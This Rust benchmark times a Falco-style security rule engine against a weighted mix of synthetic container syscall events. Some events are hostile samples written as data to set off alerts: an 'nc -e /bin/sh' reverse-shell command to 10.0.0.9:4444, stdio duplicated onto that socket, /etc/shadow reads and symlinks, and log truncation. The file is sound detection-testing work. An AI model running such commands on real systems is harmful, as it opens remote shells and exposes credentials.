//! Evaluation benchmark: the upstream stable rules, loaded with the real
//! [`tiercel_rules::loader::Loader`], against a weighted, realistic event mix.
//!
//! ```text
//! cargo bench -p tiercel-rules --bench eval
//! ```
//!
//! prints ns/event on one core for the whole mix and per event type, with
//! `RuleMatching::First` and `RuleMatching::All`: each figure is the median of
//! [`RUNS`] timed runs (the minimum is printed too). Events are [`JsonEvent`]s: every
//! value is precomputed and a lookup is an array index plus a borrow, like the
//! supervisor's cached fields, so the figures measure the engine, not the event.
//!
//! Environment:
//! * `TIERCEL_BENCH_RULES=<file>[:<file>…]`: other rules files, loaded in that order
//!   (default: the upstream `upstream-rules/falco_rules.yaml` of the shared directory,
//!   `$TIERCEL_SHARED` or `../shared` beside the repository; without it the benchmark says it
//!   is skipped); the three upstream files together are the "upstream" figures of `make bench`.
//! * `TIERCEL_BENCH_VERBOSE=1`: per type, the rules evaluated and the fields they read
//!   that none of the type's events carries (to keep the mix honest).
//! * `TIERCEL_BENCH_CALLGRIND=first|all`: no timing; evaluate [`CALLGRIND_EVENTS`]
//!   events of the mix inside `callgrind_loop` (see `benches/callgrind.sh`, which
//!   divides the instruction count of that function by the number of events);
//!   `TIERCEL_BENCH_TYPE=<event type>` restricts them to one type.
//!
//! # The mix
//!
//! A containerised service (a Python web app under `sh`, started by the runtime) as the
//! supervisor sees it: only the syscalls some rule can match reach the engine (the
//! seccomp filter is built from `Program::event_types`), so the mix is made of those.
//! Weights, out of 100 events:
//!
//! | weight | events |
//! |-------:|--------|
//! | 46 | `openat`/`open`/`openat2` reads: shared libraries, `/etc/ld.so.cache`, `/etc/hosts`, `/proc/self/*`, app files, a failed open (ENOENT), `/etc/shadow` read by the app (alerts) |
//! | 14 | `openat` writes: `/tmp`, app logs, a truncating open of a log in `/var/log` |
//! | 14 | `execve`: shells (`sh -c`, interactive `bash` with a tty), `ls`, `cat`, `grep`, `python3`, `curl`, `find`, `rm -rf`, `nc -e` (alerts) |
//! | 1  | `execveat` |
//! | 9  | `connect`: TCP to a public HTTPS server, to a private 10/8 address, ssh on port 2222 (alerts), a unix socket |
//! | 6  | `socket`: AF_INET, AF_INET6, AF_UNIX, AF_PACKET (alerts) |
//! | 3  | `dup2`/`dup3`: stdio onto a socket (reverse shell, alerts) and onto a file |
//! | 2  | `symlinkat`: harmless and over `/etc/shadow` (alerts) |
//! | 1  | `linkat` |
//! | 2  | `ptrace`: PTRACE_ATTACH by gdb, PTRACE_TRACEME |
//! | 1  | `memfd_create` |
//! | 1  | `finit_module` |

#![recursion_limit = "512"]

use std::hint::black_box;
use std::path::Path;
use std::time::Instant;

use serde_json::{json, Value as Json};
use tiercel_rules::event::Event;
use tiercel_rules::json_event::JsonEvent;
use tiercel_rules::loader::{Loader, LoaderOptions};
use tiercel_rules::program::{Program, RuleMatching};

/// Timed runs per figure (the median is reported).
const RUNS: usize = 9;
/// Target duration of one timed run.
const RUN_NS: u128 = 25_000_000;
/// Events evaluated under callgrind.
const CALLGRIND_EVENTS: usize = 20_000;

struct Case {
    label: &'static str,
    weight: usize,
    event: JsonEvent,
}

/// The app process: a Python service in a container, child of `sh`, under the runtime.
fn base() -> serde_json::Map<String, Json> {
    let v = json!({
        "evt.num": 1042, "evt.dir": "<", "evt.res": "SUCCESS", "evt.rawres": 0,
        "evt.failed": false,
        "proc.name": "python3", "proc.exe": "/usr/local/bin/python3",
        "proc.exepath": "/usr/local/bin/python3.12", "proc.cmdline": "python3 app.py --port 8080",
        "proc.args": "app.py --port 8080", "proc.pname": "sh", "proc.pexe": "/bin/sh",
        "proc.pexepath": "/usr/bin/dash", "proc.pcmdline": "sh -c python3 app.py --port 8080",
        "proc.aname": ["sh", "containerd-shim", "systemd"],
        "proc.aname[0]": "python3", "proc.aname[1]": "sh", "proc.aname[2]": "containerd-shim",
        "proc.aname[3]": "systemd",
        "proc.apid[1]": 4200, "proc.apid[2]": 812,
        "proc.pid": 4242, "proc.vpid": 7, "proc.ppid": 4200, "proc.vpgid": 1, "proc.sid": 1,
        "proc.tty": 0, "proc.cwd": "/app/", "proc.sname": "sh", "proc.loginshellid": 0,
        "proc.duration": 30_000_000_000u64, "proc.is_exe_upper_layer": false,
        "proc.is_exe_writable": false, "proc.is_exe_from_memfd": false,
        "proc.is_sid_leader": false, "proc.is_vpgid_leader": false,
        "proc.exe_ino.ctime_duration_proc_start": 9_000_000_000_000u64,
        "proc.exe_ino.mtime": 1_700_000_000_000_000_000u64,
        "proc.exe_ino.ctime": 1_700_000_000_000_000_000u64,
        "user.name": "app", "user.uid": 1000, "user.loginuid": -1, "user.loginname": "",
        "user.shell": "/bin/sh", "group.gid": 1000, "group.name": "app",
        "thread.cap_effective": "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP",
        "thread.cap_permitted": "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER",
        "container.id": "3ad7b26ded6d", "container.name": "web",
        "container.image.repository": "docker.io/library/python", "container.image.tag": "3.12",
        "container.image": "docker.io/library/python:3.12", "container.privileged": false,
        "container.start_ts": 1_700_000_000_000_000_000u64,
        "container.duration": 60_000_000_000u64,
        "k8s.ns.name": "", "k8s.pod.name": "",
    });
    match v {
        Json::Object(m) => m,
        _ => unreachable!(),
    }
}

fn ev(extra: Json) -> JsonEvent {
    let mut m = base();
    if let Json::Object(x) = extra {
        for (k, v) in x {
            m.insert(k, v);
        }
    }
    JsonEvent::from_json(&Json::Object(m)).unwrap_or_else(|e| panic!("bench event: {e}"))
}

/// A successful open of a regular file.
fn open(etype: &str, path: &str, flags: &str, read: bool, write: bool) -> JsonEvent {
    let (dir, file) = path.rsplit_once('/').unwrap_or(("", path));
    let dir = if dir.is_empty() { "/" } else { dir };
    ev(json!({
        "evt.type": etype, "fd.name": path, "fd.nameraw": path, "fd.directory": dir,
        "fd.filename": file, "fd.typechar": "f", "fd.type": "file", "fd.num": 5,
        "fd.ino": 131_075, "fd.dev": 64,
        "evt.rawres": 5, "evt.arg.flags": flags, "evt.arg.name": path, "evt.arg.fd": 5,
        "evt.arg.dirfd": -100, "evt.arg.mode": 0,
        "evt.is_open_read": read, "evt.is_open_write": write, "evt.is_open_exec": false,
        "evt.is_open_create": flags.contains("O_CREAT"),
        "fd.name_changed": false, "fd.connected": false,
    }))
}

/// An exec: the new image replaces the app's shell child.
fn exec(etype: &str, name: &str, exe: &str, args: &str, pname: &str, extra: Json) -> JsonEvent {
    let cmdline = if args.is_empty() {
        name.to_string()
    } else {
        format!("{name} {args}")
    };
    let mut v = json!({
        "evt.type": etype, "proc.name": name, "proc.exe": exe, "proc.exepath": exe,
        "proc.cmdline": cmdline, "proc.args": args, "proc.pname": pname,
        "proc.pcmdline": format!("{pname} app.py"), "proc.aname[1]": pname,
        "proc.aname[2]": "sh", "proc.aname[3]": "containerd-shim", "proc.aname[4]": "systemd",
        "proc.aname": [pname, "sh", "containerd-shim", "systemd"],
        "proc.sname": "sh", "proc.duration": 0, "evt.rawres": 0,
        "evt.arg.filename": exe, "evt.arg.flags": "EXE_LOWER_LAYER",
        "proc.exe_ino.ctime_duration_proc_start": 9_000_000_000_000u64,
        "evt.arg.res": 0,
    });
    if let (Json::Object(m), Json::Object(x)) = (&mut v, extra) {
        for (k, val) in x {
            m.insert(k, val);
        }
    }
    ev(v)
}

/// A connected inet socket (client → server).
fn connect(sip: &str, sport: u16, l4: &str, res: i64) -> JsonEvent {
    let cip = "172.17.0.2";
    ev(json!({
        "evt.type": "connect", "fd.typechar": "4", "fd.type": "ipv4", "fd.l4proto": l4,
        "fd.sockfamily": "ip", "fd.num": 7, "evt.rawres": res,
        "evt.res": if res == 0 { "SUCCESS" } else { "EINPROGRESS" },
        "fd.name": format!("{cip}:40000->{sip}:{sport}"), "fd.connected": true,
        "fd.cip": cip, "fd.sip": sip, "fd.lip": cip, "fd.rip": sip,
        "fd.cport": 40000, "fd.sport": sport, "fd.lport": 40000, "fd.rport": sport,
        "fd.ip": [cip, sip], "fd.net": [cip, sip], "fd.port": [40000, sport],
        "fd.snet": sip, "fd.cnet": cip, "fd.rnet": sip, "fd.lnet": cip,
        "fd.is_server": false, "fd.name_changed": false,
        "evt.arg.addr": format!("{sip}:{sport}"), "evt.arg.fd": 7,
    }))
}

fn cases() -> Vec<Case> {
    let c = |label, weight, event| Case {
        label,
        weight,
        event,
    };
    let ro = "O_RDONLY|O_CLOEXEC";
    vec![
        // --- open reads (46)
        c(
            "openat libc",
            10,
            open(
                "openat",
                "/usr/lib/x86_64-linux-gnu/libc.so.6",
                ro,
                true,
                false,
            ),
        ),
        c(
            "openat ld.so.cache",
            6,
            open("openat", "/etc/ld.so.cache", ro, true, false),
        ),
        c(
            "openat /etc/hosts",
            4,
            open("openat", "/etc/hosts", ro, true, false),
        ),
        c(
            "openat /proc/self/status",
            5,
            open("openat", "/proc/self/status", "O_RDONLY", true, false),
        ),
        c(
            "openat app file",
            10,
            open("openat", "/app/templates/index.html", ro, true, false),
        ),
        c(
            "openat python module",
            6,
            open(
                "openat",
                "/usr/local/lib/python3.12/json/__init__.py",
                ro,
                true,
                false,
            ),
        ),
        c(
            "open /etc/passwd",
            2,
            open("open", "/etc/passwd", "O_RDONLY", true, false),
        ),
        c(
            "openat2 app config",
            1,
            open("openat2", "/app/config.yaml", "O_RDONLY", true, false),
        ),
        c("openat ENOENT", 1, {
            let mut e = open(
                "openat",
                "/etc/../etc/missing.conf",
                "O_RDONLY",
                true,
                false,
            );
            let extra = ev(
                json!({"evt.type": "openat", "fd.num": -1, "evt.rawres": -2, "evt.res": "ENOENT"}),
            );
            for (f, a) in [("fd.num", None), ("evt.rawres", None), ("evt.res", None)] {
                let (info, arg) = tiercel_rules::fields::resolve(f, a).expect("field");
                let v = extra.extract(info.field, &arg).expect("value").clone();
                e.set(info.field, arg, owned(v));
            }
            e
        }),
        c(
            "openat /etc/shadow (alert)",
            1,
            open("openat", "/etc/shadow", "O_RDONLY", true, false),
        ),
        // --- open writes (14)
        c(
            "openat /tmp write",
            6,
            open(
                "openat",
                "/tmp/tmpa8f3k2/upload.bin",
                "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC",
                false,
                true,
            ),
        ),
        c(
            "openat app log append",
            7,
            open(
                "openat",
                "/app/logs/access.log",
                "O_WRONLY|O_CREAT|O_APPEND",
                false,
                true,
            ),
        ),
        c(
            "openat /var/log truncate (alert)",
            1,
            open("openat", "/var/log/syslog", "O_WRONLY|O_TRUNC", false, true),
        ),
        // --- execve (14) + execveat (1)
        c(
            "execve sh -c",
            3,
            exec(
                "execve",
                "sh",
                "/bin/sh",
                "-c ls /app",
                "python3",
                json!({}),
            ),
        ),
        c(
            "execve ls",
            2,
            exec("execve", "ls", "/bin/ls", "-la /app", "sh", json!({})),
        ),
        c(
            "execve cat",
            2,
            exec(
                "execve",
                "cat",
                "/bin/cat",
                "/app/config.yaml",
                "sh",
                json!({}),
            ),
        ),
        c(
            "execve grep",
            1,
            exec(
                "execve",
                "grep",
                "/bin/grep",
                "-r TODO /app",
                "sh",
                json!({}),
            ),
        ),
        c(
            "execve python3",
            2,
            exec(
                "execve",
                "python3",
                "/usr/local/bin/python3",
                "-m worker",
                "sh",
                json!({}),
            ),
        ),
        c(
            "execve curl",
            1,
            exec(
                "execve",
                "curl",
                "/usr/bin/curl",
                "-s https://example.com/health",
                "sh",
                json!({}),
            ),
        ),
        c(
            "execve find",
            1,
            exec(
                "execve",
                "find",
                "/usr/bin/find",
                "/app -name *.pyc -delete",
                "sh",
                json!({}),
            ),
        ),
        c(
            "execve bash tty (alert)",
            1,
            exec(
                "execve",
                "bash",
                "/bin/bash",
                "",
                "runc",
                json!({"proc.tty": 34816, "proc.aname[1]": "runc", "proc.pname": "runc"}),
            ),
        ),
        c(
            "execve nc -e (alert)",
            1,
            exec(
                "execve",
                "nc",
                "/bin/nc",
                "-e /bin/sh 10.0.0.9 4444",
                "sh",
                json!({}),
            ),
        ),
        c(
            "execveat memfd",
            1,
            exec(
                "execveat",
                "python3",
                "memfd:x",
                "",
                "python3",
                json!({"proc.is_exe_from_memfd": false}),
            ),
        ),
        // --- connect (9)
        c("connect https", 5, connect("93.184.216.34", 443, "tcp", 0)),
        c("connect private", 2, connect("10.0.3.7", 5432, "tcp", 0)),
        c("connect ssh 2222 (alert)", 1, {
            let mut e = connect("93.184.216.40", 2222, "tcp", 0);
            set(&mut e, "proc.exe", json!("/usr/bin/ssh"));
            set(&mut e, "proc.name", json!("ssh"));
            e
        }),
        c(
            "connect unix",
            1,
            ev(json!({
                "evt.type": "connect", "fd.typechar": "u", "fd.type": "unix", "fd.l4proto": "",
                "fd.sockfamily": "unix", "fd.num": 8, "evt.rawres": 0,
                "fd.name": "/run/app.sock", "fd.connected": true, "fd.name_changed": false,
                "evt.arg.addr": "/run/app.sock", "evt.arg.fd": 8,
            })),
        ),
        // --- socket (6)
        c("socket AF_INET", 3, socket("AF_INET", 7)),
        c("socket AF_INET6", 1, socket("AF_INET6", 7)),
        c("socket AF_UNIX", 1, socket("AF_UNIX", 8)),
        c("socket AF_PACKET (alert)", 1, socket("AF_PACKET", 9)),
        // --- dup (3)
        c(
            "dup2 stdio onto socket (alert)",
            1,
            ev(json!({
                "evt.type": "dup2", "fd.typechar": "4", "fd.type": "ipv4", "fd.l4proto": "tcp",
                "fd.num": 0, "evt.rawres": 0, "fd.name": "172.17.0.2:40000->10.0.0.9:4444",
                "fd.sip": "10.0.0.9", "fd.cip": "172.17.0.2", "fd.sport": 4444,
                "proc.name": "sh", "proc.exe": "/bin/sh", "proc.pname": "python3",
                "evt.arg.oldfd": 7, "evt.arg.newfd": 0,
            })),
        ),
        c(
            "dup3 onto file",
            2,
            ev(json!({
                "evt.type": "dup3", "fd.typechar": "f", "fd.type": "file", "fd.num": 1,
                "evt.rawres": 1, "fd.name": "/app/logs/out.log", "evt.arg.oldfd": 5,
                "evt.arg.newfd": 1,
            })),
        ),
        // --- links (3)
        c(
            "symlinkat app",
            1,
            ev(json!({
                "evt.type": "symlinkat", "evt.arg.target": "/app/releases/v42", "evt.arg.linkpath": "/app/current",
                "evt.rawres": 0,
            })),
        ),
        c(
            "symlinkat /etc/shadow (alert)",
            1,
            ev(json!({
                "evt.type": "symlinkat", "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/s",
                "evt.rawres": 0,
            })),
        ),
        c(
            "linkat",
            1,
            ev(json!({
                "evt.type": "linkat", "evt.arg.oldpath": "/app/data/a", "evt.arg.newpath": "/app/data/b",
                "evt.rawres": 0,
            })),
        ),
        // --- ptrace (2)
        c(
            "ptrace attach (alert)",
            1,
            ev(json!({
                "evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH", "evt.arg.pid": 4300,
                "proc.name": "gdb", "proc.exe": "/usr/bin/gdb", "evt.rawres": 0,
            })),
        ),
        c(
            "ptrace traceme (alert)",
            1,
            ev(json!({
                "evt.type": "ptrace", "evt.arg.request": "PTRACE_TRACEME", "evt.arg.pid": 0,
                "evt.rawres": 0,
            })),
        ),
        // --- misc (2)
        c(
            "memfd_create",
            1,
            ev(json!({
                "evt.type": "memfd_create", "evt.arg.name": "jit", "evt.arg.flags": "MFD_CLOEXEC",
                "evt.rawres": 9, "fd.num": 9,
            })),
        ),
        c(
            "finit_module",
            1,
            ev(json!({
                "evt.type": "finit_module", "evt.arg.fd": 5, "evt.rawres": -1, "evt.res": "EPERM",
            })),
        ),
    ]
}

fn socket(domain: &str, fd: i64) -> JsonEvent {
    ev(json!({
        "evt.type": "socket", "evt.arg.domain": domain, "evt.arg.type": "SOCK_STREAM",
        "evt.arg.proto": 0, "fd.num": fd, "evt.rawres": fd,
    }))
}

fn set(e: &mut JsonEvent, name: &str, v: Json) {
    let tmp = ev(json!({ "evt.type": "open", name: v }));
    let (info, arg) = tiercel_rules::fields::resolve(name, None).expect("field");
    let val = tmp.extract(info.field, &arg).expect("value");
    e.set(info.field, arg, owned(val));
}

fn owned(v: tiercel_rules::event::Value<'_>) -> tiercel_rules::event::Value<'static> {
    use std::borrow::Cow;
    use tiercel_rules::event::Value;
    match v {
        Value::Str(s) => Value::Str(Cow::Owned(s.into_owned())),
        Value::Bytes(b) => Value::Bytes(Cow::Owned(b.into_owned())),
        Value::List(l) => Value::List(l.into_iter().map(owned).collect()),
        Value::U64(n) => Value::U64(n),
        Value::I64(n) => Value::I64(n),
        Value::Bool(b) => Value::Bool(b),
        Value::Ip(i) => Value::Ip(i),
        Value::Time(t) => Value::Time(t),
        Value::Double(d) => Value::Double(d),
    }
}

/// The events of `cases` repeated by weight, deterministically shuffled.
fn mix<'a>(cases: &[&'a Case]) -> Vec<&'a JsonEvent> {
    assert!(cases.iter().any(|c| c.weight > 0), "an empty mix");
    let mut v: Vec<&JsonEvent> = cases
        .iter()
        .flat_map(|c| std::iter::repeat_n(&c.event, c.weight))
        .collect();
    // Repeat to a few hundred events so that branch predictors see a realistic stream.
    let n = v.len();
    while v.len() < 400 {
        v.extend_from_within(..n);
    }
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    for i in (1..v.len()).rev() {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        v.swap(i, (x % (i as u64 + 1)) as usize);
    }
    v
}

#[inline(never)]
fn eval_pass(
    program: &Program,
    evs: &[&JsonEvent],
    matching: RuleMatching,
    out: &mut Vec<usize>,
) -> usize {
    let mut matches = 0;
    for e in evs {
        out.clear();
        program.eval(black_box(*e), matching, out);
        matches += out.len();
    }
    matches
}

/// An event whose `extract` returns owned copies (a `String` per string value), as an
/// event source that formats its values on every call does: the cost of that, compared
/// with the borrowed values of [`JsonEvent`].
struct Owning<'a>(&'a JsonEvent);

impl Event for Owning<'_> {
    fn event_type(&self) -> tiercel_rules::event::EventType {
        self.0.event_type()
    }
    fn extract(
        &self,
        field: tiercel_rules::fields::Field,
        arg: &tiercel_rules::event::FieldArg,
    ) -> Option<tiercel_rules::event::Value<'_>> {
        self.0.extract(field, arg).map(owned)
    }
}

#[inline(never)]
fn owning_pass(
    program: &Program,
    evs: &[&JsonEvent],
    matching: RuleMatching,
    out: &mut Vec<usize>,
) -> usize {
    let mut matches = 0;
    for e in evs {
        out.clear();
        program.eval(&Owning(black_box(*e)), matching, out);
        matches += out.len();
    }
    matches
}

#[inline(never)]
fn callgrind_loop(
    program: &Program,
    evs: &[&JsonEvent],
    matching: RuleMatching,
    n: usize,
) -> usize {
    let mut out = Vec::with_capacity(16);
    let mut matches = 0;
    for e in evs.iter().cycle().take(n) {
        out.clear();
        program.eval(black_box(*e), matching, &mut out);
        matches += out.len();
    }
    matches
}

type Pass = fn(&Program, &[&JsonEvent], RuleMatching, &mut Vec<usize>) -> usize;

/// (median, min) ns/event over [`RUNS`] runs.
fn measure(program: &Program, evs: &[&JsonEvent], matching: RuleMatching) -> (f64, f64) {
    measure_pass(program, evs, matching, eval_pass)
}

fn measure_pass(
    program: &Program,
    evs: &[&JsonEvent],
    matching: RuleMatching,
    eval_pass: Pass,
) -> (f64, f64) {
    let mut out = Vec::with_capacity(16);
    // Calibrate the passes per run.
    let t = Instant::now();
    let mut passes = 0u64;
    while t.elapsed().as_nanos() < RUN_NS / 5 {
        black_box(eval_pass(program, evs, matching, &mut out));
        passes += 1;
    }
    let passes = passes * 5;
    let mut per_event: Vec<f64> = (0..RUNS)
        .map(|_| {
            let t = Instant::now();
            for _ in 0..passes {
                black_box(eval_pass(program, evs, matching, &mut out));
            }
            t.elapsed().as_nanos() as f64 / (passes as f64 * evs.len() as f64)
        })
        .collect();
    per_event.sort_by(f64::total_cmp);
    (per_event[RUNS / 2], per_event[0])
}

fn main() {
    let path = match std::env::var_os("TIERCEL_BENCH_RULES") {
        Some(p) => std::path::PathBuf::from(p),
        None => match tiercel_testdata::upstream("upstream-rules/falco_rules.yaml") {
            Some(p) => p,
            None => return,
        },
    };
    let path = path.display().to_string();
    let t0 = Instant::now();
    let mut loader = Loader::new(LoaderOptions::default());
    for file in path.split(':').filter(|f| !f.is_empty()) {
        loader.add_file(Path::new(file));
    }
    let outcome = loader.finish();
    let program = match outcome.program {
        Some(p) => p,
        None => panic!("{path} does not load:\n{}", outcome.render_text()),
    };
    let load_time = t0.elapsed();
    let cases = cases();
    let all: Vec<&Case> = cases.iter().collect();
    let full = mix(&all);

    if let Ok(mode) = std::env::var("TIERCEL_BENCH_CALLGRIND") {
        let matching = if mode == "first" {
            RuleMatching::First
        } else {
            RuleMatching::All
        };
        // `TIERCEL_BENCH_TYPE=execve`: only that type's events.
        let evs = match std::env::var("TIERCEL_BENCH_TYPE") {
            Ok(t) if !t.is_empty() => {
                let sel: Vec<&Case> = cases
                    .iter()
                    .filter(|c| c.event.event_type().name() == t)
                    .collect();
                assert!(!sel.is_empty(), "no {t} events in the mix");
                mix(&sel)
            }
            _ => full,
        };
        let m = callgrind_loop(&program, &evs, matching, CALLGRIND_EVENTS);
        println!("callgrind_loop: {CALLGRIND_EVENTS} events, {matching:?}, {m} matches");
        return;
    }

    println!(
        "{} rules loaded from {path} with the Loader in {load_time:?}",
        program.rules().len()
    );
    println!(
        "load: {}",
        std::process::Command::new("uptime")
            .output()
            .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
            .unwrap_or_default()
    );

    // What fires, once (sanity: the mix exercises the rules).
    let mut out = Vec::new();
    for c in &cases {
        out.clear();
        program.eval(&c.event, RuleMatching::All, &mut out);
        if !out.is_empty() {
            let names: Vec<&str> = out
                .iter()
                .map(|&i| program.rules()[i].name.as_str())
                .collect();
            println!("  {:<34} -> {}", c.label, names.join(", "));
        }
    }

    // Event types in mix order of first appearance.
    let mut types: Vec<&str> = Vec::new();
    for c in &cases {
        let t = c.event.event_type().name();
        if !types.contains(&t) {
            types.push(t);
        }
    }
    let verbose = std::env::var_os("TIERCEL_BENCH_VERBOSE").is_some();

    println!();
    println!("(*) the same mix through an event whose extract returns owned copies (one String per string value and call)");
    println!(
        "{:<14} {:>6} {:>6} {:>22} {:>22}",
        "events", "weight", "rules", "First ns/ev (med/min)", "All ns/ev (med/min)"
    );
    let total_weight: usize = cases.iter().map(|c| c.weight).sum();
    let (fm, fmin) = measure(&program, &full, RuleMatching::First);
    let (am, amin) = measure(&program, &full, RuleMatching::All);
    println!(
        "{:<14} {:>6} {:>6} {:>13.0} / {:<6.0} {:>13.0} / {:<6.0}",
        "MIX",
        total_weight,
        program.rules().len(),
        fm,
        fmin,
        am,
        amin
    );
    let (om, omin) = measure_pass(&program, &full, RuleMatching::First, owning_pass);
    let (oam, oamin) = measure_pass(&program, &full, RuleMatching::All, owning_pass);
    println!(
        "{:<14} {:>6} {:>6} {:>13.0} / {:<6.0} {:>13.0} / {:<6.0}",
        "MIX owned (*)",
        total_weight,
        program.rules().len(),
        om,
        omin,
        oam,
        oamin
    );
    for t in &types {
        let sel: Vec<&Case> = cases
            .iter()
            .filter(|c| c.event.event_type().name() == *t)
            .collect();
        let etype = sel[0].event.event_type();
        let rules = program.rules_for(etype);
        let evs = mix(&sel);
        let w: usize = sel.iter().map(|c| c.weight).sum();
        let (fm, fmin) = measure(&program, &evs, RuleMatching::First);
        let (am, amin) = measure(&program, &evs, RuleMatching::All);
        println!(
            "{:<14} {:>6} {:>6} {:>13.0} / {:<6.0} {:>13.0} / {:<6.0}",
            t,
            w,
            rules.len(),
            fm,
            fmin,
            am,
            amin
        );
        if verbose {
            for &r in rules {
                let rule = &program.rules()[r as usize];
                let missing: Vec<&str> = rule
                    .filter
                    .fields()
                    .iter()
                    .filter(|f| {
                        sel.iter().all(|c| {
                            // Any argument counts as present.
                            [tiercel_rules::event::FieldArg::None]
                                .iter()
                                .all(|a| c.event.extract(**f, a).is_none())
                        })
                    })
                    .map(|f| f.name())
                    .collect();
                println!("      {:<50} absent: {}", rule.name, missing.join(" "));
            }
        }
    }
}
